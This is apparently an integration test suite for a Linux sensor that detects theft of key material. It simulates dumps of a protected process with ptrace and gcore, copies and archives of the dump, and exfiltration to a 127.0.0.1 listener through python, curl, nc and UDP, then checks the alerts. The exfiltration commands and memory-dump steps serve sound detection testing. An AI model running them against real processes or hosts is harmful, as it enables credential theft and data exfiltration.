//! Following key material and dumps out of their place: a user-space dump
//! of a protected process (a self-written ptrace dumper, and gdb's gcore),
//! opens of the dump, copies (cp), renames (mv), archives (tar + gzip
//! through a pipe) and sends to a 127.0.0.1 listener (python, curl, a Rust
//! sender), each with its lineage back to the origin.

mod common;

use std::{path::Path, process::Command};

use common::{lab::*, *};
use serde_json::Value;

fn run(cmd: &mut Command) -> u32 {
    let mut child = cmd.spawn().unwrap_or_else(|e| panic!("{cmd:?}: {e}"));
    let pid = child.id();
    let st = child.wait().unwrap();
    assert!(st.success(), "{cmd:?}: {st}");
    pid
}

fn one<'a>(alerts: &'a [Value], rule: &str, path: &Path) -> &'a Value {
    let v: Vec<_> = alerts
        .iter()
        .filter(|a| a["rule"] == rule && a["target"]["path"] == path.to_str().unwrap())
        .collect();
    assert_eq!(v.len(), 1, "one {rule} for {}: {alerts:#?}", path.display());
    v[0]
}

fn lineage_paths(a: &Value) -> Vec<String> {
    a["flow"]["lineage"]
        .as_array()
        .unwrap()
        .iter()
        .map(|s| s["path"].as_str().unwrap().to_string())
        .collect()
}

#[test]
fn a_user_space_dump_is_followed_to_its_copy_and_the_network() {
    let l = lab();
    let mut s = Sensor::start(&l.root, &config(&l));
    let (mut victim, vp) = spawn_victim(&l.victim_bin);
    let _ = s.alerts_until_marker(&l.marker);

    // The dump: attach, read the memory through /proc/PID/mem, write it.
    let dump = l.root.join("vault.dump");
    let (dumper, st) = actor(
        &["ptrace-dump", &vp.to_string(), dump.to_str().unwrap()],
        None,
        None,
    );
    assert!(st.success());
    let alerts = s.alerts_until_marker(&l.marker);
    let a = one(&alerts, "userspace-dump", &dump);
    assert_eq!(a["process"]["pid"], dumper);
    assert_eq!(a["flow"]["dumped"]["pid"], vp);
    assert_eq!(a["flow"]["format"], "raw");
    assert_eq!(a["severity"], "critical");
    assert_eq!(a["attack"], "T1003");
    assert_eq!(lineage_paths(a), [dump.to_str().unwrap()]);

    // Someone else opens it.
    let (reader, st) = actor(&["open", dump.to_str().unwrap()], None, None);
    assert!(st.success());
    // cp copies it (and opens it: a dump-file-access of its own) (copy_file_range or read/write, whichever cp uses).
    let copy = l.root.join("stage-copy.bin");
    let cp = run(Command::new("cp").arg(&dump).arg(&copy));
    let alerts = s.alerts_until_marker(&l.marker);
    let a = by_pid(&alerts, "dump-file-access", reader);
    assert_eq!(a.len(), 1, "{alerts:#?}");
    assert_eq!(a[0]["target"]["path"], dump.to_str().unwrap());
    assert_eq!(a[0]["flow"]["dumped"]["pid"], vp);
    assert_eq!(by_pid(&alerts, "dump-file-access", cp).len(), 1);
    let a = one(&alerts, "tracked-copy", &copy);
    assert_eq!(a["process"]["pid"], cp);
    assert_eq!(a["attack"], "T1074");
    assert_eq!(
        lineage_paths(a),
        [dump.to_str().unwrap(), copy.to_str().unwrap()]
    );
    assert_eq!(a["flow"]["lineage"][1]["generation"], 1);
    assert_eq!(a["flow"]["dumped"]["pid"], vp);

    // A copy through a shared writable mapping (no write syscall).
    let mmap_copy = l.root.join("stage-mmap.bin");
    let (mapper, st) = actor(
        &[
            "mmap-copy",
            copy.to_str().unwrap(),
            mmap_copy.to_str().unwrap(),
        ],
        None,
        None,
    );
    assert!(st.success());
    let alerts = s.alerts_until_marker(&l.marker);
    let a = one(&alerts, "tracked-copy", &mmap_copy);
    assert_eq!(a["process"]["pid"], mapper);
    assert_eq!(a["flow"]["via"], "mmap");

    // A copy written through io_uring (no write syscall at all); and the
    // same with IOSQE_CQE_SKIP_SUCCESS, whose write posts no completion, so
    // it is followed from its submission.
    for (how, name) in [
        ("uring-copy", "stage-uring.bin"),
        ("uring-copy-skip", "stage-uring-skip.bin"),
    ] {
        let uring_copy = l.root.join(name);
        let (copier, st) = actor(
            &[how, copy.to_str().unwrap(), uring_copy.to_str().unwrap()],
            None,
            None,
        );
        assert!(st.success(), "{how}");
        let alerts = s.alerts_until_marker(&l.marker);
        let a = one(&alerts, "tracked-copy", &uring_copy);
        assert_eq!(a["process"]["pid"], copier);
        assert_eq!(a["flow"]["via"], "io_uring");
        assert_eq!(
            lineage_paths(a),
            [
                dump.to_str().unwrap(),
                copy.to_str().unwrap(),
                uring_copy.to_str().unwrap()
            ]
        );
    }

    // The copy leaves through a socket: a Rust sender, python, curl.
    let port = listener();
    let port_s = port.to_string();
    let mut senders: Vec<(String, u32)> = Vec::new();
    let (p, st) = actor(&["send-file", copy.to_str().unwrap(), &port_s], None, None);
    assert!(st.success());
    senders.push(("ks-actor".into(), p));
    if have("python3") {
        let script = format!(
            "import socket\ndata = open({:?}, 'rb').read()\ns = socket.create_connection(('127.0.0.1', {port}))\ns.sendall(data)\ns.close()\n",
            copy.to_str().unwrap()
        );
        senders.push((
            "python3".into(),
            run(Command::new("python3").args(["-c", &script])),
        ));
    } else {
        println!("SKIPPED python3 sender: python3 is not installed");
    }
    // A datagram to an unconnected socket names its peer in sendto().
    let udp = std::net::UdpSocket::bind("127.0.0.1:0").unwrap();
    let udp_port = udp.local_addr().unwrap().port();
    let mut udp_sender = None;
    if have("python3") {
        let script = format!(
            "import socket\ndata = open({:?}, 'rb').read()[:1024]\ns = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)\ns.sendto(data, ('127.0.0.1', {udp_port}))\n",
            copy.to_str().unwrap()
        );
        udp_sender = Some(run(Command::new("python3").args(["-c", &script])));
    }
    if have("curl") {
        // curl sends the file as an HTTP body; the listener never answers,
        // so curl is bounded by a short max-time and its exit ignored.
        let mut c = Command::new("curl")
            .args(["-s", "--max-time", "3", "--data-binary"])
            .arg(format!("@{}", copy.display()))
            .arg(format!("http://127.0.0.1:{port}/"))
            .spawn()
            .unwrap();
        let pid = c.id();
        let _ = c.wait();
        senders.push(("curl".into(), pid));
    } else {
        println!("SKIPPED curl sender: curl is not installed");
    }
    if have("nc") {
        // The shell opens the copy for nc's stdin, then execs nc.
        let cmd = format!(
            "exec nc -q0 127.0.0.1 {port} < '{}'",
            copy.to_str().unwrap()
        );
        senders.push(("nc".into(), run(Command::new("sh").args(["-c", &cmd]))));
    } else {
        println!("SKIPPED nc sender: nc is not installed");
    }
    let alerts = s.alerts_until_marker(&l.marker);
    for (tool, pid) in senders {
        let ex = by_pid(&alerts, "exfiltration", pid);
        assert_eq!(ex.len(), 1, "{tool}: {alerts:#?}");
        let a = ex[0];
        assert_eq!(a["flow"]["remote"], format!("127.0.0.1:{port}"), "{tool}");
        assert_eq!(a["flow"]["protocol"], "tcp", "{tool}");
        assert_eq!(a["attack"], "T1041", "{tool}");
        assert_eq!(a["target"]["path"], copy.to_str().unwrap(), "{tool}");
        assert_eq!(
            lineage_paths(a),
            [dump.to_str().unwrap(), copy.to_str().unwrap()],
            "{tool}"
        );
        assert_eq!(a["flow"]["dumped"]["pid"], vp, "{tool}");
    }
    if let Some(pid) = udp_sender {
        let ex = by_pid(&alerts, "exfiltration", pid);
        assert_eq!(ex.len(), 1, "udp: {alerts:#?}");
        assert_eq!(ex[0]["flow"]["remote"], format!("127.0.0.1:{udp_port}"));
        assert_eq!(ex[0]["flow"]["protocol"], "udp");
        assert_eq!(ex[0]["attack"], "T1048");
    }
    drop(victim.stdin.take());
    let _ = victim.wait();
}

#[test]
fn gcore_of_a_protected_process_is_a_user_space_dump() {
    if !have("gcore") {
        println!("SKIPPED: gcore (Debian's gdb) is not installed");
        return;
    }
    let l = lab();
    let mut s = Sensor::start(&l.root, &config(&l));
    let (mut victim, vp) = spawn_victim(&l.victim_bin);
    let _ = s.alerts_until_marker(&l.marker);
    let prefix = l.root.join("gcore");
    let out = run(Command::new("gcore")
        .arg("-o")
        .arg(&prefix)
        .arg(vp.to_string())
        .stdout(std::process::Stdio::null()));
    let _ = out;
    let core = l.root.join(format!("gcore.{vp}"));
    assert!(core.exists());
    let alerts = s.alerts_until_marker(&l.marker);
    let a = one(&alerts, "userspace-dump", &core);
    assert_eq!(a["process"]["comm"], "gdb");
    assert_eq!(a["flow"]["dumped"]["pid"], vp);
    assert_eq!(a["flow"]["format"], "elf-core");
    drop(victim.stdin.take());
    let _ = victim.wait();
}

#[test]
fn moving_and_archiving_keys_keep_their_lineage() {
    let l = lab();
    let ca = l.root.join("keys/ca");
    std::fs::create_dir(&ca).unwrap();
    std::fs::write(ca.join("root.key"), b"not a real key, a tracked file").unwrap();
    std::fs::write(ca.join("move.key"), b"another tracked file").unwrap();
    let out = l.root.join("out");
    std::fs::create_dir(&out).unwrap();
    let mut s = Sensor::start(&l.root, &config(&l));
    let _ = s.alerts_until_marker(&l.marker);

    // mv within the filesystem: a rename of the watched inode.
    let moved = out.join("stolen.key");
    let mv = run(Command::new("mv").arg(ca.join("move.key")).arg(&moved));
    // tar + gzip: tar reads the keys and pipes them to gzip, which writes
    // the archive.
    let tgz = out.join("ca.tgz");
    let tar = run(Command::new("tar")
        .arg("czf")
        .arg(&tgz)
        .arg("-C")
        .arg(l.root.join("keys"))
        .arg("ca"));
    let alerts = s.alerts_until_marker(&l.marker);

    let a = one(&alerts, "tracked-copy", &moved);
    assert_eq!(a["process"]["pid"], mv);
    assert_eq!(a["flow"]["via"], "rename");
    assert_eq!(
        lineage_paths(a),
        [
            ca.join("move.key").to_str().unwrap(),
            moved.to_str().unwrap()
        ]
    );
    let a = one(&alerts, "tracked-copy", &tgz);
    assert_eq!(a["attack"], "T1560");
    assert_eq!(a["flow"]["lineage"][1]["how"], "archive");
    let first = lineage_paths(a)[0].clone();
    assert!(first.starts_with(ca.to_str().unwrap()), "{a:#}");
    // The archive is written by gzip, which read tar's pipe (or by tar
    // itself when it compresses in-process).
    let writer = a["process"]["pid"].as_u64().unwrap() as u32;
    if writer != tar {
        assert_eq!(a["process"]["comm"], "gzip", "{a:#}");
        assert!(a["flow"]["pipe_from"].is_u64(), "{a:#}");
    }

    // Moving the whole key directory moves its keys.
    let moved_dir = out.join("ca-moved");
    let mv = run(Command::new("mv").arg(&ca).arg(&moved_dir));
    let alerts = s.alerts_until_marker(&l.marker);
    let a = one(&alerts, "tracked-copy", &moved_dir);
    assert_eq!(a["process"]["pid"], mv);
    assert_eq!(a["flow"]["via"], "rename");
    assert_eq!(a["flow"]["lineage"][0]["path"], ca.to_str().unwrap());
}

#[test]
fn an_allowlisted_reader_is_not_followed() {
    let l = lab();
    let key = l.root.join("keys/service.key");
    std::fs::write(&key, b"the service's own key").unwrap();
    // The service (a renamed copy of cp) may read the keys directory; what
    // it writes afterwards (its logs, its state) is not a copy of them.
    let service = l.root.join("ks-service");
    std::fs::copy("/usr/bin/cp", &service).unwrap();
    let cfg = format!(
        "{}\n[[allow]]\nexe = \"{}\"\nkey_path = \"{}\"\n",
        config(&l),
        service.display(),
        l.root.join("keys").display()
    );
    let mut s = Sensor::start(&l.root, &cfg);
    let _ = s.alerts_until_marker(&l.marker);
    let out = l.root.join("service-state.bin");
    let allowed = run(Command::new(&service).arg(&key).arg(&out));
    // The same copy by plain cp is followed.
    let stolen = l.root.join("stolen.bin");
    let cp = run(Command::new("cp").arg(&key).arg(&stolen));
    let alerts = s.alerts_until_marker(&l.marker);
    assert!(
        alerts.iter().all(|a| a["process"]["pid"] != allowed),
        "{alerts:#?}"
    );
    let a = one(&alerts, "tracked-copy", &stolen);
    assert_eq!(a["process"]["pid"], cp);
    assert_eq!(
        lineage_paths(a),
        [key.to_str().unwrap(), stolen.to_str().unwrap()]
    );
}

#[test]
fn a_copy_holding_a_private_key_gives_key_material_with_its_fingerprint() {
    if !have("openssl") {
        println!("SKIPPED: openssl (to make a key at test time) is not installed");
        return;
    }
    let l = lab();
    let key = l.root.join("keys/signing.pem");
    run(Command::new("openssl")
        .args(["genpkey", "-algorithm", "ed25519", "-out"])
        .arg(&key));
    let mut s = Sensor::start(&l.root, &config(&l));
    let _ = s.alerts_until_marker(&l.marker);
    let copy = l.root.join("exported.bin");
    let cp = run(Command::new("cp").arg(&key).arg(&copy));
    // The scanner runs on its own thread once cp closes the copy.
    let alerts = s.alerts_until(|a| a["rule"] == "key-material");
    let a = alerts.last().unwrap();
    assert_eq!(a["target"]["path"], copy.to_str().unwrap());
    assert_eq!(a["process"]["pid"], cp);
    assert_eq!(a["severity"], "critical");
    let f = &a["flow"]["keys"]["findings"][0];
    assert_eq!(f["kind"], "ed25519", "{a:#}");
    assert!(f["fingerprint"].as_str().unwrap().starts_with("SHA256:"));
    assert_eq!(
        lineage_paths(a),
        [key.to_str().unwrap(), copy.to_str().unwrap()]
    );
    // Never the key itself.
    let pem = std::fs::read_to_string(&key).unwrap();
    let body: String = pem.lines().filter(|l| !l.starts_with("-----")).collect();
    for a in &alerts {
        assert!(!a.to_string().contains(&body), "key bytes in {a}");
    }
}
